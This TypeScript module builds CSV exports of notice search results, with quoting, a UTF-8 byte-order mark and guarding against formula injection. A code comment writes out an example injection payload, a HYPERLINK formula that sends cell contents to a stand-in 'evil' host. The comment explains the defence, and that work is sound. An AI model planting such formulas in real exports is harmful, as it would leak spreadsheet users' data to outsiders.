/**
 * CSV of notice search hits: RFC 4180 (CRLF rows, fields quoted when they hold a comma, quote,
 * CR or LF, quotes doubled) in UTF-8 with a byte-order mark, without which Excel reads UTF-8
 * as the local code page and Chinese comes out garbled. Pure.
 */
import type { SearchHit } from "@/lib/server/api/contract";
import type { FeedLocale } from "./feed";
import { cleanText } from "./text";
import { categoryLabel } from "@/lib/shared/categories/vocabulary";

export const CSV_BOM = "\uFEFF";
/** Rows in one export; a larger result should be narrowed (by date, say) and exported in parts. */
export const CSV_MAX_ROWS = 10_000;

export const CSV_COLUMNS = [
  "id",
  "number",
  "title",
  "agency_id",
  "agency",
  "category",
  "language",
  "status",
  "withheld",
  "version",
  "published",
  "updated",
  "effective_date",
  "log_index",
  "permalink",
] as const;

/**
 * One field. A cell starting with = + - @ (or tab or CR, which some spreadsheets skip before
 * reading one of those) is run as a formula when the file is opened: a notice titled
 * =HYPERLINK("http://evil/?"&A1,"…") would exfiltrate or mislead (OWASP "CSV injection").
 * A leading single quote makes a spreadsheet show the text as text. Numbers we write ourselves
 * (version, log index) never start with those characters, so they are untouched.
 */
export function csvCell(value: string | number | boolean | null): string {
  if (value === null) return "";
  let text = typeof value === "string" ? cleanText(value) : String(value);
  if (typeof value === "string" && /^[=+\-@\t\r]/.test(text)) text = `'${text}`;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvRow(cells: readonly (string | number | boolean | null)[]): string {
  return `${cells.map(csvCell).join(",")}\r\n`;
}

export function csvHeader(): string {
  return csvRow(CSV_COLUMNS);
}

export function hitCsvRow(hit: SearchHit, locale: FeedLocale, origin: string): string {
  return csvRow([
    hit.id,
    hit.number,
    hit.title,
    hit.agency.id,
    locale === "en" ? hit.agency.nameEn : hit.agency.nameZh,
    hit.category === null ? null : categoryLabel(hit.category, locale),
    hit.language,
    hit.status,
    hit.withheld,
    hit.version,
    hit.publishedAt,
    hit.updatedAt,
    hit.effectiveDate,
    hit.logIndex,
    `${origin}/${locale}/n/${encodeURIComponent(hit.id)}`,
  ]);
}

/** An ASCII file name from the filters, safe in a Content-Disposition header on any system. */
export function csvFileName(query: { q: string; agency: readonly string[] }, date: Date): string {
  const label = [query.agency.length === 1 ? query.agency[0]! : "", query.q ? "search" : ""].filter((part) => part).join("-");
  return `gongshi-notices${label ? `-${label.replace(/[^a-z0-9-]/g, "")}` : ""}-${date.toISOString().slice(0, 10)}.csv`;
}
